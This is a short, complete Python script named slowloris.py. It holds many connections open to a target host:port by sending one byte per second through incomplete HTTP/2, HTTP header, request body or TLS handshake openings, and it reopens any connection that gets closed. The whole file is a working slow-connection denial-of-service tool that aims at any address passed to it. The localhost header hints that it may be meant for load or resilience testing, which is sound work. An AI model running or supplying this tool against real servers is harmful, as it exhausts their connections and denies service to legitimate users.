"""slowloris.py KIND HOST:PORT CONNECTIONS SECONDS: connections that say a byte a second and never anything whole, and come
back when they are ended. Prints "ready" when all are there, and at the end what was sent and how many came back. Kinds:
  h2     what HTTP/2 begins with
  http   the head of a request
  body   a request's body, behind a whole head
  tls    a handshake
  held   a TLS record's head at once, and no more: a handshake that never ends
"""
import socket
import sys
import time

FIRST = {
    "h2": (b"", b"PRI * HTTP/2.0\r\n\r\nSM\r\n"),
    "http": (b"", b"GET /api/v1/tasks HTTP/1.1\r\nHost: localhost\r\nX-A: "),
    "body": (b"POST /api/v1/tasks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n", b""),
    "tls": (b"", bytes.fromhex("160301020001")),
    "held": (bytes.fromhex("16030102000100") + b"a" * 30, b""),
}
TOGETHER = 200


def main():
    kind, address, n, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    host, port = address.rsplit(":", 1)
    at_once, crumbs = FIRST[kind]
    sent = again = 0

    def begin():
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, int(port)))
        return [s, 0]

    connections = []
    for i in range(n):
        connections.append(begin())
        if i % TOGETHER == TOGETHER - 1:
            time.sleep(0.05)
    print("ready", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        turn = time.monotonic()
        for c in connections:
            try:
                more = at_once if c[1] == 0 and at_once else crumbs[c[1]:c[1] + 1] or b"a"
                sent += c[0].send(more)
                c[1] += 1
            except BlockingIOError:
                pass
            except OSError:
                c[0].close()
                c[:] = begin()
                again += 1
        time.sleep(max(0, min(turn + 1, end) - time.monotonic()))
    print(f"{kind}: {n} slow connections, {sent} bytes sent in {seconds:.0f} s, {again} came back", flush=True)


main()
